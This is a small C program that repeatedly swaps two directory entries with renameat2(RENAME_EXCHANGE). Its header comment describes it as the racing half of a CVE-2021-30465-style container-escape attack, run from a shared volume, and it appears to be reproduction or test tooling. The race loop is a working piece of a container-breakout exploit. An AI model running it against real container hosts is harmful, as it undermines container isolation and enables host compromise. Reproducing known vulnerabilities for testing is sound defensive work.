/* Swap two names in a directory with renameat2(RENAME_EXCHANGE) until killed:
 * the racing side of a CVE-2021-30465-style attack, run by whoever shares a
 * volume with the container. "exchange DIR A B"; prints "exchanging" once. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: exchange DIR A B\n");
        return 2;
    }
    int dir = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0) {
        perror("open");
        return 1;
    }
    printf("exchanging\n");
    fflush(stdout);
    for (;;)
        renameat2(dir, argv[2], dir, argv[3], RENAME_EXCHANGE);
}
